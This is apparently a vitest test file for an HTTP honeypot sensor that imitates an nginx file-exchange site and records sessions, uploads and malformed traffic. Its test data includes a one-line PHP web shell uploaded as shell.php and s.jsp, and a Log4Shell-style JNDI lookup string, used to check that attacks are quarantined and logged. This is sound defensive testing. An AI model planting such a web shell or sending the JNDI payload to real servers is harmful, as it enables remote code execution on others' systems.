import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { BlockList, connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, onTestFinished, test } from 'vitest';
import { openQuarantine } from '../src/capture/quarantine.ts';
import { ownCertificate } from '../src/cli/certificate.ts';
import type { Context } from '../src/cli/context.ts';
import { keeperOf } from '../src/cli/http-sensor.ts';
import { fixedClock, systemClock } from '../src/platform/clock.ts';
import { seededRandom } from '../src/platform/random.ts';
import type { Door } from '../src/sensors/doors.ts';
import type { HttpSensor, HttpSensorOptions } from '../src/sensors/http/sensor.ts';
import { listenHttp } from '../src/sensors/http/sensor.ts';
import type { MemoryRecorder } from './emulator-probes/memory-recorder.ts';
import { memoryRecorder } from './emulator-probes/memory-recorder.ts';
import { sayHttp } from './http/ask-http.ts';

const run = promisify(execFile);
const NEAR = new BlockList();
NEAR.addSubnet('127.0.0.0', 8);
const PLAIN: Door = { kind: 'plain', host: '127.0.0.1', port: 0 };
const SHELL = '<?php @eval($_POST["c"]); ?>';
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

function folder(): string {
  const path = mkdtempSync(join(tmpdir(), 'sundew-http-'));
  onTestFinished(() => rmSync(path, { recursive: true }));
  return path;
}

async function opened(
  options: Partial<HttpSensorOptions> = {},
): Promise<{ sensor: HttpSensor; recorder: MemoryRecorder; url: string }> {
  const recorder = memoryRecorder();
  const sensor = await listenHttp({
    doors: [PLAIN],
    name: 'test',
    seed: 'a test',
    recorder,
    clock: systemClock,
    random: seededRandom(3),
    ...options,
  });
  onTestFinished(() => sensor.close());
  return { sensor, recorder, url: `http://127.0.0.1:${sensor.port}` };
}

async function post(url: string, init: RequestInit): Promise<{ status: number; text: string }> {
  const response = await fetch(url, { method: 'POST', redirect: 'manual', ...init });
  return { status: response.status, text: await response.text() };
}

describe('the HTTP sensor', () => {
  test('records a visit over several connections as one session', async () => {
    const { sensor, recorder, url } = await opened();

    const index = await (await fetch(`${url}/`)).text();
    const login = await post(`${url}/login`, {
      body: new URLSearchParams({ username: 'admin', password: 'x' }),
    });
    const failed = await (await fetch(`${url}/login?failed=1`)).text();
    await sayHttp(
      sensor.port,
      'GET /?a=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n\r\n',
      50,
    );
    await sensor.close();

    expect(index).toContain('file exchange');
    expect([login.status, failed]).toEqual([302, expect.stringContaining('Wrong user name or password')]);
    expect(recorder.sessions).toHaveLength(1);
    expect(recorder.acts('session.opened')).toMatchObject([
      { protocol: 'http', local: { port: sensor.port } },
    ]);
    expect(recorder.acts('http.request')).toMatchObject([
      { method: 'GET', target: '/', version: '1.1', status: 200 },
      { method: 'POST', target: '/login', body: 'username=admin&password=x', status: 302 },
      { method: 'GET', target: '/login?failed=1', status: 200 },
      {
        target: '/?a=${jndi:ldap://192.0.2.1/a}',
        headers: [
          ['Host', 'x'],
          ['X-A', '1'],
        ],
        status: 200,
      },
    ]);
    expect(recorder.acts('session.closed')).toMatchObject([{ reason: 'shutdown', commands: 4 }]);
  });

  test('ends a session after two minutes of silence', async () => {
    const clock = fixedClock(1_700_000_000_000);
    const { sensor, recorder } = await opened({ clock, limits: { settleMs: 20 } });
    const ask = (): Promise<unknown> => sayHttp(sensor.port, 'GET / HTTP/1.1\r\nHost: x\r\n\r\n', 30);

    await ask();
    clock.advance(119_000);
    await ask();
    expect(recorder.sessions).toHaveLength(1);
    clock.advance(120_000);
    await recorder.ended(1);
    await ask();

    expect(recorder.acts('session.closed')).toMatchObject([{ reason: 'timeout', commands: 2, ms: 119_000 }]);
    expect(recorder.sessions).toHaveLength(2);
  });

  test('answers pipelined requests in their order, chunked bodies and all', async () => {
    const { sensor, recorder } = await opened();

    const { text } = await sayHttp(
      sensor.port,
      'POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n2;x\r\nde\r\n0\r\n\r\n' +
        'GET / HTTP/1.1\r\nHost: x\r\n\r\nGET /b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
    );

    expect(text.match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 404', 'HTTP/1.1 200', 'HTTP/1.1 404']);
    expect(recorder.acts('http.request').map(({ body, status }) => [body, status])).toEqual([
      ['abcde', 404],
      ['', 200],
      ['', 404],
    ]);
  });

  test('keeps files of forms, of PUT and of unknown types in the quarantine, and never shows them', async () => {
    const quarantine = openQuarantine(folder(), 1_000_000, seededRandom(1));
    const { sensor, recorder, url } = await opened({ keepUpload: keeperOf(quarantine, systemClock) });
    const form = new FormData();
    form.set('ticket', '7');
    form.set('file', new File([SHELL], 'shell.php', { type: 'application/x-php' }));

    const sent = await post(`${url}/upload`, { body: form });
    const put = await fetch(`${url}/uploads/s.jsp`, { method: 'PUT', body: SHELL });
    await post(`${url}/cgi`, { body: '\u007fELF', headers: { 'content-type': 'application/octet-stream' } });
    const back = await fetch(`${url}/upload/shell.php`);
    await sensor.close();

    expect([sent.status, put.status, back.status]).toEqual([200, 404, 404]);
    expect(sent.text).toContain('has been uploaded');
    const about = { via: 'http', size: SHELL.length, sha256: sha256(SHELL), kind: 'script', kept: true };
    expect(recorder.acts('file.offered')).toMatchObject([
      { ...about, field: 'file', name: 'shell.php', mime: 'application/x-php', fresh: true },
      { ...about, field: '', name: 's.jsp', fresh: false },
      { name: 'cgi', size: 4, mime: 'application/octet-stream' },
    ]);
    expect(quarantine.content(sha256(SHELL), 1_000)?.toString()).toBe(SHELL);
    expect(quarantine.records().find((record) => record.sha256 === sha256(SHELL))).toMatchObject({
      count: 2,
      sightings: [{ path: '/upload shell.php' }, { path: '/uploads/s.jsp' }],
    });
  });

  test('tells of a file that is too large and keeps its hash only; cuts a large body', async () => {
    const quarantine = openQuarantine(folder(), 1_000_000, seededRandom(1));
    const keepUpload = keeperOf(quarantine, systemClock);
    const { sensor, recorder, url } = await opened({ keepUpload, limits: { uploadBytes: 50_000 } });
    const content = 'a'.repeat(100_000);

    await fetch(`${url}/x`, { method: 'PUT', body: content });
    await sensor.close();

    const whole = { sha256: sha256(content), size: 100_000 };
    expect(recorder.acts('file.offered')).toMatchObject([{ ...whole, kept: false, fresh: false }]);
    const [request] = recorder.acts('http.request');
    expect(request?.body).toHaveLength(32_768);
    expect(request?.cut).toEqual([{ index: -1, length: 100_000, sha256: sha256(content) }]);
    expect(quarantine.records()).toEqual([]);
  });

  test('records what is not HTTP, and what was not whole', async () => {
    const { sensor, recorder } = await opened();

    const tls = await sayHttp(sensor.port, '\u0016\u0003\u0001\u0002\u0000\u0001\u0000');
    const socket = connect({ port: sensor.port, host: '127.0.0.1' });
    socket.end('GET / HTTP/1.1\r\nHost: x');
    for await (const _ of socket);
    await sayHttp(sensor.port, 'POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\nabc', 30);
    await sayHttp(sensor.port, 'get /b HTTP/1.1\r\nHost: x\r\n\r\n', 30);
    await sensor.close();

    expect(tls.text).toMatch(/^HTTP\/1.1 400 /);
    expect(recorder.acts('wire.fault')).toMatchObject([
      { looksLike: 'tls', sample: '\u0016\u0003\u0001\u0002\u0000\u0001\u0000' },
      { fault: 'no complete request', looksLike: 'http', sample: 'GET / HTTP/1.1\r\nHost: x' },
    ]);
    expect(recorder.acts('http.request')).toMatchObject([
      { method: 'POST', body: 'abc', status: 404 },
      { method: 'get', target: '/b', version: '1.1', status: 400, lacks: ['headers', 'body'] },
    ]);
  });

  test('counts a flood instead of recording each request', async () => {
    const { sensor, recorder } = await opened({ limits: { recordedPerMinute: 100 } });

    await sayHttp(sensor.port, 'GET /x HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(500), 200);
    await sensor.close();

    expect(recorder.acts('http.request')).toHaveLength(100);
    expect(recorder.acts('session.flood')).toMatchObject([{ protocol: 'http', commands: 400 }]);
    expect(recorder.acts('session.closed')).toMatchObject([{ commands: 500 }]);
  });

  test('waits while events are not taken', async () => {
    const { sensor, recorder } = await opened();
    recorder.saturate(true);

    const before = await sayHttp(sensor.port, 'GET / HTTP/1.1\r\nHost: x\r\n\r\n', 100);
    const during = sayHttp(sensor.port, 'GET / HTTP/1.1\r\nHost: x\r\n\r\n', 500);
    setTimeout(() => recorder.saturate(false), 50);

    expect(before.text).toBe('');
    expect((await during).text).toMatch(/^HTTP\/1.1 200 /);
  });

  test('holds as many connections as it may, and lets others in', async () => {
    const { sensor } = await opened({ limits: { connections: 3 } });
    const slow = Array.from({ length: 6 }, () => connect({ port: sensor.port, host: '127.0.0.1' }));
    for (const socket of slow) socket.on('error', () => undefined).write('GET / HT');

    await new Promise((resolve) => setTimeout(resolve, 200));
    const open = slow.filter((socket) => !socket.closed && !socket.readableEnded).length;
    for (const socket of slow) socket.destroy();

    expect(open).toBeLessThanOrEqual(3);
  });
});

describe('its doors', () => {
  test('let curl in over TLS, and tell how', async () => {
    const pair = await ownCertificate(folder(), { clock: systemClock, random: seededRandom(1) } as Context);
    const { sensor, recorder } = await opened({
      doors: [PLAIN, { kind: 'tls', host: '127.0.0.1', port: 0, ...pair }],
    });

    const url = `https://127.0.0.1:${sensor.doors[0]?.port}/assets`;
    const { stdout } = await run('curl', [
      '-sk',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code} %{redirect_url}',
      url,
    ]);

    expect(stdout).toBe(`301 ${url}/`);
    expect(recorder.acts('session.opened')[0]?.tls?.version).toBe('TLSv1.3');
  });

  test('know visitors behind a balancer by the address that it tells', async () => {
    const { sensor, recorder } = await opened({
      doors: [{ kind: 'proxy', host: '127.0.0.1', port: 0, from: NEAR }],
    });

    const head = 'PROXY TCP4 198.51.100.7 192.0.2.1 40000 80\r\n';
    const { text } = await sayHttp(sensor.port, `${head}GET /assets HTTP/1.1\r\nHost: x.example\r\n\r\n`);

    expect(text).toContain('\r\nLocation: http://x.example/assets/\r\n');
    expect(recorder.sessions[0]?.peer).toEqual({ address: '198.51.100.7', port: 40_000 });
    expect(recorder.acts('session.opened')[0]).toMatchObject({ via: '127.0.0.1', local: { port: 80 } });
  });
});

describe('what names servers', () => {
  test('nmap -sV says nginx with its version', { timeout: 120_000 }, async () => {
    const { sensor } = await opened();

    const { stdout } = await run('nmap', ['-Pn', '-sV', '-p', String(sensor.port), '127.0.0.1']);

    expect(stdout).toMatch(/open\s+http\s+nginx 1\.22\.1/);
  });

  test('whatweb says nginx with its version', { timeout: 120_000 }, async () => {
    const { url } = await opened();

    const { stdout } = await run('whatweb', ['--color=never', `${url}/`]);

    expect(stdout).toContain('HTTPServer[nginx/1.22.1]');
    expect(stdout).toContain('nginx[1.22.1]');
  });
});
